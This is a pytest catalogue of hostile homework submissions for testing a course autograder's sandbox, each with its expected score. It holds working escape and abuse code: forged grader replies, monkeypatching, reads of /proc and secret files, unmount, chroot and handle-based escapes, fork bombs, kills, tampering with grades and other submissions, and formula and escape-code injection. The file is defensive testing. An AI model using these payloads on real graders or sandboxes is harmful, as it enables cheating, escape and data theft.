"""Hostile HW1 submissions for the grader's tests, each with the exact score and status it
must get.

Most attack only ``conv1D.py`` (wideMinima.py absent: at most 50 points, and no matplotlib
import per jail), so the whole catalogue grades in about a minute. A submission that finds
something it must not (a secret, a reference solution, the judge's checks, another
submission, a writable folder outside, a listening socket) raises ``LEAK`` inside
``Convolution1d`` and so loses 25 points: the expected score is what it gets when the jail
holds. Markers are written reversed in the sources, so that a submission never finds them
in its own file.
"""

from __future__ import annotations

import functools
import os
import secrets
from dataclasses import dataclass, field
from pathlib import Path

import pytest


@functools.cache
def _jail_problem() -> str | None:
    from mfdnn.course.grader import make_jail
    from mfdnn.course.sandbox import Limits
    from mfdnn.errors import ConfigError

    try:
        make_jail(Limits(), True, []).release()
    except ConfigError as exc:
        return str(exc)
    return None


@pytest.fixture
def jail_required():
    """Skip where no jail can be made here (no bwrap, no user namespaces), unless
    MFDNN_REQUIRE_JAIL is set (CI): there a missing jail fails the tests."""
    problem = _jail_problem()
    if problem and os.environ.get("MFDNN_REQUIRE_JAIL"):
        pytest.fail(problem)
    if problem:
        pytest.skip(problem)


IMPORT = "import numpy as np\n"
CONV = "        return np.correlate(x, self.k, 'valid')"
GD = "    theta = np.array(theta0, dtype=float)\n"


@dataclass
class Hostile:
    files: dict[str, str]  # name -> source
    score: float
    status: str
    phrases: tuple[str, ...] = ()  # must occur in the explanation
    layout: str = ""  # "" (plain files), or a special layout made by the test
    extra: dict = field(default_factory=dict)


@dataclass
class Context:
    root: Path  # the course folder of the repository
    repo: Path
    tmp: Path
    submissions: Path
    out: Path
    secret: Path
    victim: Path
    token: str = field(default_factory=lambda: secrets.token_hex(8))
    judge_pid: int = field(default_factory=os.getpid)
    tcp_port: int = 0
    unix_path: str = ""
    abstract_name: str = ""

    @property
    def solution(self) -> Path:
        return self.root / "solutions" / "hw1" / "conv1D.py"

    @property
    def checks(self) -> Path:
        import mfdnn.course.checks.hw1 as checks

        return Path(checks.__file__)

    def targets(self) -> list[str]:
        """Files a submission must not read."""
        git = self.repo / ".git"
        paths = [self.secret, self.solution, self.checks, self.victim, self.out / "grades.csv",
                 git, git / "HEAD", self.root / "course.yml"]
        if git.is_file():
            gitdir = Path(git.read_text().split("gitdir:", 1)[1].strip())
            paths += [gitdir / "HEAD", gitdir.parent.parent / "HEAD"]
        return [str(p) for p in paths]

    def markers(self) -> list[str]:
        """Reversed: a submission's source never holds them as they are."""
        return [m[::-1] for m in (f"SECRET-{self.token}", f"VICTIM-{self.token}",
                                  "BEGIN SOLUTION", "def reference_gd", "gitdir:",
                                  "ref: refs/", "homework:")]


def edit(text: str, old: str, new: str) -> str:
    assert text.count(old) == 1, old
    return text.replace(old, new)


HUNT = '''
import os as _os


def _markers():
    return [m[::-1] for m in MARKERS]


def _leaked(data):
    if isinstance(data, bytes):
        data = data.decode("utf-8", "replace")
    return any(m in data for m in _markers())


def _try_read(path, **kw):
    try:
        fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK, **kw)
    except (OSError, ValueError, TypeError):
        return None
    try:
        return _os.read(fd, 1 << 16)
    except OSError:
        return None
    finally:
        _os.close(fd)


def _leak(where):
    raise RuntimeError("LEAK " + where)
'''


def _with_hunt(ctx: Context, text: str, prelude: str, check: str) -> str:
    """conv1D.py with ``prelude`` at import and ``check`` (code that may call _leak) first
    in Convolution1d.__matmul__."""
    head = IMPORT + f"MARKERS = {ctx.markers()!r}\nTARGETS = {ctx.targets()!r}\n" + HUNT + prelude
    lines = ["if not globals().get('_hunted'):", "    globals()['_hunted'] = True"]
    lines += ["    " + line for line in check.strip("\n").splitlines()]
    body = "".join("        " + line + "\n" for line in lines)
    return edit(edit(text, CONV, body + CONV), IMPORT, head)


FAST = {  # the reference's comprehensions, vectorised: the hostile runs test the jail, not n
    "        return np.array([self.k @ x[j:j + self.r] for j in range(self.n - self.r + 1)])":
    "        return np.correlate(x, self.k, 'valid')",
    "        return np.array([sum(self.k[t] * v[i - t] for t in range(self.r) if 0 <= i - t <= m)\n"
    "                         for i in range(self.n)])":
    "        return np.convolve(v, self.k)",
}


def fast(conv: str) -> str:
    for old, new in FAST.items():
        conv = edit(conv, old, new)
    return conv


def catalogue(ctx: Context, ref: dict[str, str], starter: dict[str, str]) -> dict[str, Hostile]:
    conv, wide = fast(ref["conv1D.py"]), ref["wideMinima.py"]
    s_conv, s_wide = starter["conv1D.py"], starter["wideMinima.py"]
    cases: dict[str, Hostile] = {}

    def conv_only(name, text, score, status, *phrases, **extra):
        cases[name] = Hostile({"conv1D.py": text}, score, status, phrases, extra=extra)

    # -- honest and baseline ------------------------------------------------------------------
    cases["good_one"] = Hostile(dict(ref), 100, "graded", ("all checks passed",))  # as is
    cases["good_two"] = Hostile({"conv1D.py": conv, "wideMinima.py": wide}, 100, "graded",
                                ("all checks passed",))
    cases["good_conv_only"] = Hostile({"conv1D.py": conv}, 50, "graded",
                                      ("wideMinima.py not submitted",))
    cases["starter"] = Hostile(dict(starter), 0, "graded", ("not implemented yet",))
    cases["planted_bug"] = Hostile(
        {"conv1D.py": edit(conv, CONV, CONV + " * 1.0001"),
         "wideMinima.py": wide}, 75, "graded", ("conv1D.py:convolution: Convolution1d",
                                                  "expected"))
    cases["victim"] = Hostile({"conv1D.py": conv + f"\n# VICTIM-{ctx.token}\n"}, 50, "graded")

    # -- forging answers through the channel (descriptor 3), from the starter ------------------
    nonce = '''
def _nonce_and_request():
    import sys
    f = sys._getframe()
    while f is not None:
        m = f.f_locals.get("message")
        if isinstance(m, dict) and "nonce" in m:
            return m["nonce"], m["request"]
        f = f.f_back
    raise RuntimeError("no nonce")


def _frame(payload):
    import os
    n, _ = _nonce_and_request()
    os.write(3, b"MFDNN " + n.encode() + b" " + str(len(payload)).encode() + b"\\n" + payload)
'''

    def forge(name, body, score, status, *phrases):
        text = edit(s_conv, IMPORT, IMPORT + nonce)
        text = edit(text, "    def __matmul__(self, x):\n", "    def __matmul__(self, x):\n"
                    + "".join("        " + ln + "\n" for ln in body.strip("\n").splitlines()))
        conv_only(name, text, score, status, *phrases)

    forge("forge_wrong_nonce", "import os\nos.write(3, b'MFDNN 0123456789abcdef 11\\n{\"ok\":{}}')",
          0, "crashed", "wrong nonce")
    forge("forge_zeros_with_nonce", '''
import sys
wire = sys.modules["mfdnn_probes.wire"]
_, req = _nonce_and_request()
_frame(wire.encode({"ok": {"Ax": [np.zeros(c["n"] - len(c["k"]) + 1) for c in req["cases"]]}}))
''', 0, "crashed", "wrong nonce")
    forge("forge_claims_points", '''
import os
_frame(b'{"ok": {"score": 1e9, "status": "passed", "points": 100, "message": "ok"}}')
os._exit(0)
''', 0, "crashed", "malformed answer", "has no 'Ax'")
    forge("forge_error_kind", '''
import os
_frame(b'{"error": {"kind": "passed", "message": "all checks passed"}}')
os._exit(0)
''', 0, "crashed", "an error reply must be")
    forge("forge_oversized", '''
import os
n, _ = _nonce_and_request()
os.write(3, b"MFDNN " + n.encode() + b" 99999999999\\n")
os._exit(0)
''', 0, "crashed", "at most")
    forge("forge_no_newline", "import os\nos.write(3, b'MFDNN ' + b'x' * 100000)\nos._exit(0)",
          0, "crashed", "longer than 128 bytes")
    forge("forge_deep_json", '''
import os
_frame(b"[" * 200000 + b"]" * 200000)
os._exit(0)
''', 0, "crashed", "nested")
    forge("forge_lying_array", '''
import os
_frame(b'{"ok": {"Ax": [{"$array": ["f8", [1000000], "AAAA"]}]}}')
os._exit(0)
''', 0, "crashed", "array data holds")
    forge("forge_object_dtype", '''
import os
_frame(b'{"ok": {"Ax": [{"$array": ["O", [1], "gAN9cQAu"]}]}}')
os._exit(0)
''', 0, "crashed", "dtype")
    forge("forge_huge_integer", '''
import os
_frame(b'{"ok": {"Ax": [' + b"9" * 5000 + b']}}')
os._exit(0)
''', 0, "crashed", "not JSON")
    forge("forge_not_utf8", "import os\n_frame(b'\\xff\\xfe{}')\nos._exit(0)", 0, "crashed",
          "UTF-8")
    cases["forge_nan_claims"] = Hostile({"wideMinima.py": edit(s_wide, IMPORT, IMPORT + nonce)
                                         .replace('    # TODO: label each', '''    import os
    _frame(b'{"ok": {"sharp": NaN, "wide": Infinity, "labels": []}}')
    os._exit(0)
    # TODO: label each''')}, 0, "graded", ("SHARP_MIN / WIDE_MIN were changed",))
    conv_only("frames_on_stdout", edit(s_conv, IMPORT, IMPORT + '''
print('MFDNN 0 30\\n{"ok": {"Ax": [], "score": 100}}')
import sys
sys.stderr.write('MFDNN 0 2\\n{}')
'''), 0, "graded", "not implemented yet")
    conv_only("thread_flooding_frames", edit(s_conv, IMPORT, IMPORT + '''
import os, threading, time
def _flood():
    while True:
        try:
            os.write(3, b'MFDNN 00 9\\n{"ok":{}}\\n')
        except OSError:
            return
        time.sleep(0.001)
threading.Thread(target=_flood, daemon=True).start()
time.sleep(0.05)
'''), 0, "crashed", "malformed answer")

    # -- patching the jail side: json, numpy, the probes, the runner, settrace, gc, atexit ----
    conv_only("patch_json", edit(s_conv, IMPORT, IMPORT + '''
import json
json.dumps = lambda *a, **k: '{"ok": {"Ax": [], "ATv": []}}'
'''), 0, "crashed", "the probe sends")
    conv_only("patch_numpy", edit(edit(conv, CONV, CONV + " * 1.0001"),
                                  IMPORT, IMPORT + '''
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
'''), 25, "graded", "Convolution1d(k, 20) @ x with r = 3: entry [0]")
    conv_only("patch_probes", edit(s_conv, IMPORT, IMPORT + '''
import sys
_p = sys.modules["mfdnn_probes.hw1"]
_p.convolution = lambda mod, req: {"Ax": [np.zeros(c["n"] - len(c["k"]) + 1)
                                          for c in req["cases"]]}
_p.transposed = lambda mod, req: {"ATv": [np.zeros(c["n"]) for c in req["cases"]]}
'''), 0, "graded", "expected")
    conv_only("patch_runner_gc", edit(s_conv, IMPORT, IMPORT + '''
import gc, types
def _fake(probes, check, file, request, *a, **k):
    import numpy as np
    key = "Ax" if check == "convolution" else "ATv"
    return {"ok": {key: [np.ones(3)] * len(request["cases"])}}
for _o in gc.get_objects():
    if isinstance(_o, types.FunctionType) and _o.__name__ == "call_probe":
        _o.__code__ = _fake.__code__
'''), 0, "graded", "expected")
    conv_only("import_the_judge", edit(conv, IMPORT, IMPORT + '''
import mfdnn.course.checker as _checker  # to rewrite the Check objects and points
for _c in __import__("mfdnn.course.checks.hw1").course.checks.hw1.CHECKS:
    object.__setattr__(_c, "points", 1e6)
'''), 0, "graded", "importing conv1D.py failed: ModuleNotFoundError")
    conv_only("settrace", edit(s_conv, IMPORT, IMPORT + '''
import sys
def _tracer(frame, event, arg):
    if event == "return" and frame.f_code.co_name == "call_probe" and isinstance(arg, dict):
        arg.clear()
        arg["ok"] = {"Ax": [np.zeros(1)] * 5, "ATv": [np.zeros(1)] * 5}
    return _tracer
sys.settrace(_tracer)
import threading
threading.settrace(_tracer)
'''), 0, "graded", "shape")
    conv_only("atexit_forgery", edit(s_conv, IMPORT, IMPORT + '''
import atexit, os
atexit.register(lambda: os.write(3, b'MFDNN 0 2\\n{}'))
import weakref
class _Late:
    def __del__(self):
        os.write(3, b'MFDNN 0 2\\n{}')
_keep = _Late()
'''), 0, "graded", "not implemented yet")
    conv_only("signals_ignored", edit(conv, IMPORT, IMPORT + '''
import signal
for _s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP, signal.SIGPIPE):
    signal.signal(_s, signal.SIG_IGN)
'''), 50, "graded", "wideMinima.py:gradient_descent: wideMinima.py not submitted")

    # -- reading what must stay hidden ----------------------------------------------------------
    conv_only("read_paths", _with_hunt(ctx, conv, "", '''
rel = ["../victim/conv1D.py", "../../victim/conv1D.py", "../" * 12 + TARGETS[0].lstrip("/")]
for path in TARGETS + rel + ["/proc/1/root" + t for t in TARGETS] + [
        "/proc/self/root" + t for t in TARGETS]:
    data = _try_read(path)
    if data and _leaked(data):
        _leak(path)
'''), 50, "graded")
    conv_only("read_dir_fd", _with_hunt(ctx, conv, "", '''
import os
for fd in range(0, 256):
    for rel in [t.lstrip("/") for t in TARGETS] + ["../" * 12 + t.lstrip("/") for t in TARGETS]:
        data = _try_read(rel, dir_fd=fd)
        if data and _leaked(data):
            _leak(f"dir_fd {fd} {rel}")
    for rel in ["", "/..", "/../..", "/../../.."]:
        for t in TARGETS:
            data = _try_read(f"/proc/self/fd/{fd}{rel}/{t.lstrip('/')}")
            if data and _leaked(data):
                _leak(f"/proc/self/fd/{fd}")
'''), 50, "graded")
    conv_only("read_ctypes", _with_hunt(ctx, conv, "", '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(1 << 16)
for t in TARGETS:
    for fd in (libc.open(t.encode(), 0), libc.openat(-100, t.encode(), 0),
               libc.syscall(257, -100, t.encode(), 0, 0)):
        if fd >= 0:
            n = libc.read(fd, buf, 1 << 16)
            libc.close(fd)
            if n > 0 and _leaked(buf.raw[:n]):
                _leak("ctypes " + t)
    # name_to_handle_at + open_by_handle_at (the "shocker" escape): needs CAP_DAC_READ_SEARCH
    handle = ctypes.create_string_buffer(128)
    ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
    mount_id = ctypes.c_int()
    if libc.name_to_handle_at(-100, b"/usr/lib", handle, ctypes.byref(mount_id), 0) == 0:
        fd = libc.open_by_handle_at(os.open("/usr/lib", os.O_RDONLY), handle, 0)
        if fd >= 0:
            _leak("open_by_handle_at")
'''), 50, "graded")
    conv_only("read_after_unmount", _with_hunt(ctx, conv, "", '''
import ctypes, os, glob
libc = ctypes.CDLL(None, use_errno=True)
hidden = [p for p in glob.glob("/*/*/*/mfdnn/course") + glob.glob("/*/*/*/*/mfdnn/course")
          + glob.glob("/*/*/*/*/*/*/*/mfdnn/course")]
for target in hidden + ["/", "/proc", "/submission", "/tmp", "/usr/lib"]:
    libc.umount2(target.encode(), 2)  # MNT_DETACH
    libc.umount(target.encode())
libc.unshare(0x10000000 | 0x00020000)  # a user namespace of our own, then a mount namespace
for target in hidden:
    libc.umount2(target.encode(), 2)
libc.mount(b"/", b"/tmp", None, 4096 | 16384, None)  # bind the root somewhere
libc.chroot(b"/tmp")
for folder in hidden:
    for name in ("checks/hw1.py", "probes/hw1.py", "checker.py"):
        data = _try_read(os.path.join(folder, name))
        if data and _leaked(data):
            _leak("unmounted " + folder)
for t in TARGETS:
    data = _try_read(t)
    if data and _leaked(data):
        _leak("after mount games " + t)
'''), 50, "graded")
    conv_only("read_proc", _with_hunt(ctx, conv, "", '''
import os
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
    for part in ("root", "cwd"):
        for t in TARGETS:
            data = _try_read(f"/proc/{pid}/{part}{t}")
            if data and _leaked(data):
                _leak(f"/proc/{pid}/{part}")
    for part in ("environ", "cmdline", "mountinfo", "maps"):
        data = _try_read(f"/proc/{pid}/{part}")
        if data and _leaked(data):
            _leak(f"/proc/{pid}/{part}")
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        fds = []
    for fd in fds:
        data = _try_read(f"/proc/{pid}/fd/{fd}")
        if data and _leaked(data):
            _leak(f"/proc/{pid}/fd/{fd}")
'''), 50, "graded")
    conv_only("read_walk", _with_hunt(ctx, conv, "", '''
import os
import mfdnn
names = {"conv1D.py", "wideMinima.py", "hw1.py", "HEAD", "grades.csv", "course.yml",
         os.path.basename(TARGETS[0])}
installed = {"site-packages", "dist-packages", "python3.11", "lib-dynload", "__pycache__",
             "x86_64-linux-gnu", "include", "share", "locale", "terminfo"}
tops = ["/", os.path.dirname(mfdnn.__file__)]  # the library: installed, but walked too
for top, dirs, files in (entry for t in tops for entry in os.walk(t)):
    if top in ("/proc", "/sys", "/dev", "/submission"):
        dirs[:] = []
        continue
    dirs[:] = [d for d in dirs if d not in installed]
    for f in files:
        if f in names:
            data = _try_read(os.path.join(top, f))
            if data and _leaked(data):
                _leak("walk " + os.path.join(top, f))
'''), 50, "graded")
    conv_only("uid_and_writes", _with_hunt(ctx, conv, '''
import os, sys
print(f"UID={os.getuid()} EUID={os.geteuid()} GID={os.getgid()} GROUPS={os.getgroups()}")
print("ENV=" + ",".join(sorted(os.environ)))
''', f'''
import os, sys
outside = [os.path.dirname(np.__file__), sys.base_prefix, "/judge/mfdnn_probes", "/", "/dev",
           "/usr/lib", "/etc", "/proc", "/dev/pts",
           os.path.dirname(os.path.dirname(sys.modules["mfdnn_probes"].__file__)),
           {str(ctx.submissions)!r}, {str(ctx.out)!r}, {str(ctx.victim.parent)!r}]
import mfdnn
outside.append(os.path.dirname(mfdnn.__file__))
for folder in outside:
    try:
        with open(os.path.join(folder, "pwned.txt"), "w") as f:
            f.write("x")
        _leak("wrote into " + folder)
    except OSError:
        pass
with open("/tmp/ok.txt", "w") as f:  # the jail's own tmpfs is writable
    f.write("fine")
'''), 50, "graded", extra={"uid": True})

    # -- starting processes -------------------------------------------------------------------
    conv_only("posixsubprocess", _with_hunt(ctx, conv, "", f'''
import os, sys, _posixsubprocess
code = "import os\\nfor t in {ctx.targets()!r}:\\n" \\
       "    try:\\n        print('LEAK-CHILD', open(t).read()[:20])\\n" \\
       "    except Exception:\\n        pass\\n"
for argv in ([sys.executable, "-c", code], ["/bin/sh", "-c", "cat " + TARGETS[0]]):
    try:
        r, w = os.pipe()
        pid = _posixsubprocess.fork_exec(  # Python 3.11's argument list
            argv, [os.fsencode(argv[0])], True, (r, w), None, None, -1, -1, -1, -1, -1, -1,
            r, w, True, False, -1, None, None, None, -1, None, True)
        os.waitpid(pid, 0)
    except Exception:
        import subprocess
        try:
            subprocess.run(argv, timeout=20)
        except Exception:
            pass
'''), 50, "graded", extra={"no_output": "LEAK-CHILD"})
    conv_only("fork_and_linger", edit(conv, IMPORT, IMPORT + f'''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            for target in ({str(ctx.out / "grades.csv")!r}, {str(ctx.victim)!r}):
                try:
                    open(target, "w").write("pwned")
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)
'''), 50, "graded")
    conv_only("ctypes_fork", edit(conv, IMPORT, IMPORT + '''
import ctypes, os
_libc = ctypes.CDLL(None)
if _libc.fork() == 0:
    while True:
        pass
'''), 50, "graded")
    conv_only("fork_bomb", edit(conv, CONV, '''        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
''' + CONV), 25, "timeout", "during check conv1D.py:convolution")
    conv_only("memory_by_children", edit(conv, CONV, '''        import os
        children = []
        for _ in range(2 if not globals().get("_forked") else 0):
            globals()["_forked"] = True
            pid = os.fork()
            if pid == 0:
                hoard = []
                try:
                    while True:
                        hoard.append(bytearray(100 << 20))
                except MemoryError:
                    os._exit(0)
            children.append(pid)
        for pid in children:
            os.waitpid(pid, 0)
''' + CONV), 50, "graded")
    conv_only("thread_bomb", edit(conv, CONV, '''        import threading, time
        threads = []
        try:
            for _ in range(5000):
                t = threading.Thread(target=time.sleep, args=(30,), daemon=True)
                t.start()
                threads.append(t)
        except RuntimeError:
            pass
''' + CONV), 50, "graded")
    cases["memory_hoard"] = Hostile({"wideMinima.py": edit(wide, GD, "    hoard = []\n"
                                                          "    while True:\n"
                                                          "        hoard.append(np.ones(10**9))\n"
                                                          + GD)},
                                    25, "graded", ("MemoryError",))

    # -- sockets ------------------------------------------------------------------------------
    conv_only("sockets", _with_hunt(ctx, conv, "", f'''
import socket
attempts = [(socket.AF_INET, ("127.0.0.1", {ctx.tcp_port})),
            (socket.AF_UNIX, {ctx.unix_path!r}),
            (socket.AF_UNIX, "\\0" + {ctx.abstract_name!r}),
            (socket.AF_UNIX, "/run/docker.sock"), (socket.AF_UNIX, "/var/run/docker.sock")]
for family, address in attempts:
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect(address)
        s.sendall(b"LEAK")
        _leak(f"connected to {{address!r}}")
    except OSError:
        pass
    finally:
        s.close()
try:
    socket.getaddrinfo("example.com", 80)
    _leak("name lookup")
except OSError:
    pass
'''), 50, "graded")

    # -- crashing or hanging the judge ----------------------------------------------------------
    conv_only("close_answer_fd", edit(conv, IMPORT, IMPORT + "import os\nos.close(3)\n"), 0,
              "crashed", "during check conv1D.py:convolution")
    conv_only("close_stdin", edit(conv, IMPORT, IMPORT + "import os\nos.close(0)\n"), 25,
              "crashed", "during check conv1D.py:transposed")
    conv_only("sigstop", edit(conv, CONV, "        import os, signal\n"
                                          "        os.kill(os.getpid(), signal.SIGSTOP)\n" + CONV),
              25, "timeout", "during check conv1D.py:convolution")
    conv_only("sleep_forever", edit(conv, CONV, "        import time\n"
                                                "        time.sleep(10**6)\n" + CONV),
              25, "timeout", "during check conv1D.py:convolution")
    conv_only("busy_loop", edit(conv, CONV, "        while True:\n            try:\n"
                                            "                pass\n"
                                            "            except BaseException:\n"
                                            "                pass\n" + CONV),
              25, "timeout", "during check conv1D.py:convolution")
    conv_only("exit_at_import", edit(conv, IMPORT, IMPORT + "import os\nos._exit(0)\n"), 0,
              "crashed", "exited with status 0 during check conv1D.py:convolution")
    conv_only("raise_at_import", edit(conv, IMPORT, IMPORT + "raise RuntimeError('boom')\n"), 0,
              "graded", "importing conv1D.py failed: RuntimeError: boom")
    conv_only("kill_everything", edit(conv, CONV, f'''        import os, signal
        for pid in (-1, 1, 0 - 1, os.getppid(), {ctx.judge_pid}):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
''' + CONV), 50, "graded")
    conv_only("huge_answer", edit(conv, CONV, "        return np.zeros(2_000_000)\n" + CONV), 25,
              "crashed", "at most")
    conv_only("huge_output", edit(conv, IMPORT, IMPORT + "print('x' * 30_000_000)\n"), 50,
              "graded", "output truncated")
    conv_only("escape_codes", edit(edit(conv, CONV, '''        raise RuntimeError(
            "\\x1b[2J\\x1b]0;pwned\\x07 red\\r\\u202etxt.exe\\n=cmd|' /C calc'!A0" + "y" * 10**6)
''' + CONV), IMPORT, IMPORT + '''
import sys
print("\\x1b[31mRED\\x1b[0m \\x1b]0;title\\x07 \\r\\x00\\x08\\u202e")
sys.stderr.write("\\x1b[2J\\x1b[H")
'''), 25, "graded", "error: RuntimeError: [2J ]0;pwned red txt.exe =cmd")
    conv_only("tricky_returns", edit(conv, CONV, '''        class Liar(np.ndarray):
            def __eq__(self, other):
                return True
            def __float__(self):
                return 42.0
            def __array__(self, *a, **k):
                return np.zeros(len(self))
        return np.zeros(self.n - self.r + 1).view(Liar)
''' + CONV), 25, "graded", "entry [0] is 0, expected")
    cases["labels_with_newlines"] = Hostile({"wideMinima.py": edit(
        wide, '            labels.append("sharp")',
        '            labels.append("sharp\\n\\x1b[31m" + "z" * 100000)')},
        25, "graded", ("wideMinima.py:classify: classify",))

    conv_only("exception_that_hangs", edit(conv, CONV, '''        class Endless(Exception):
            def __str__(self):
                while True:
                    pass
        raise Endless()
''' + CONV), 25, "timeout", "during check conv1D.py:convolution")
    conv_only("null_bytes", conv.replace("import numpy as np\n", "import numpy as np\n# \0\n", 1),
              0, "graded", "importing conv1D.py failed: SyntaxError")
    cases["many_files"] = Hostile({"conv1D.py": conv}, 50, "graded",
                                  ("more than 10000 files",), layout="many")
    cases["deep_folders"] = Hostile({"conv1D.py": conv}, 0, "no-files", ("none of",),
                                    layout="deep")
    covert = '''
import socket, time
ends = time.time() + 3
while time.time() < ends:
    for family, address in ((socket.AF_UNIX, "\\0mfdnn-covert"), (socket.AF_INET,
                                                                 ("127.0.0.1", 47777))):
        s = socket.socket(family, socket.SOCK_STREAM)
        try:
            if ROLE == "listen":
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.bind(address)
                s.listen(1)
                s.settimeout(0.2)
                try:
                    s.accept()
                    raise RuntimeError("LEAK accepted a connection from another jail")
                except socket.timeout:
                    pass
            else:
                s.connect(address)
                raise RuntimeError("LEAK connected to another jail")
        except OSError:
            time.sleep(0.05)
        finally:
            s.close()
'''
    for role, name in (("listen", "covert_a_listener"), ("connect", "covert_b_connector")):
        text = edit(conv, CONV, "        if not globals().get('_covert'):\n"
                    "            globals()['_covert'] = True\n"
                    + "".join("            " + ln + "\n" for ln in covert.strip().splitlines())
                    + CONV)
        conv_only(name, edit(text, IMPORT, IMPORT + f"ROLE = {role!r}\n"), 50, "graded")

    # -- tampering with others and with the jail's own files -------------------------------------
    conv_only("write_others", edit(conv, IMPORT, IMPORT + f'''
import os, shutil
for target in ({str(ctx.victim)!r}, {str(ctx.out / "grades.csv")!r}, {str(ctx.solution)!r}):
    for action in (lambda: open(target, "w").write("pwned"), lambda: os.remove(target),
                   lambda: shutil.rmtree(os.path.dirname(target))):
        try:
            action()
        except OSError:
            pass
'''), 50, "graded")
    conv_only("fill_the_disks", edit(conv, IMPORT, IMPORT + '''
import os
chunk = b"x" * (1 << 20)
for folder in ("/tmp", "/dev/shm", "/submission"):
    for i in range(200):  # far more than the tmpfs holds
        try:
            with open(f"{folder}/fill{i}", "wb") as f:
                for _ in range(64):
                    f.write(chunk)
        except OSError:
            break
'''), 50, "graded")
    conv_only("marker_writer", edit(conv, IMPORT, IMPORT + '''
for path in ("/tmp/mfdnn-marker", "/submission/mfdnn-marker", "/dev/shm/mfdnn-marker"):
    try:
        open(path, "w").write("written by another submission")
    except OSError:
        pass
'''), 50, "graded")
    conv_only("marker_reader", edit(conv, CONV, '''        import os
        for path in ("/tmp/mfdnn-marker", "/submission/mfdnn-marker", "/dev/shm/mfdnn-marker"):
            if os.path.exists(path):
                raise RuntimeError("LEAK " + path)
''' + CONV), 50, "graded")

    # -- output injection through the folder name -------------------------------------------------
    for name in ('=HYPERLINK("evil.example";"x")', "+SUM(1,1)", "@cmd", "-2+3"):
        cases[name] = Hostile({"conv1D.py": conv}, 50, "graded")

    # -- odd layouts: links, FIFOs, nesting, size -----------------------------------------
    cases["symlink_to_solution"] = Hostile({"wideMinima.py": wide}, 50, "graded",
                                           ("conv1D.py is not a regular file (a link?)",),
                                           layout="symlink")
    cases["fifo_as_file"] = Hostile({"wideMinima.py": wide}, 50, "graded",
                                    ("conv1D.py is not a regular file; not graded",),
                                    layout="fifo")
    cases["nested_folders"] = Hostile({"conv1D.py": conv}, 50, "graded", layout="nested")
    cases["oversized_file"] = Hostile({"conv1D.py": conv + "#" * (2 << 20) + "\n",
                                       "wideMinima.py": wide}, 50, "graded",
                                      ("conv1D.py is larger than 1 MiB",))
    return cases
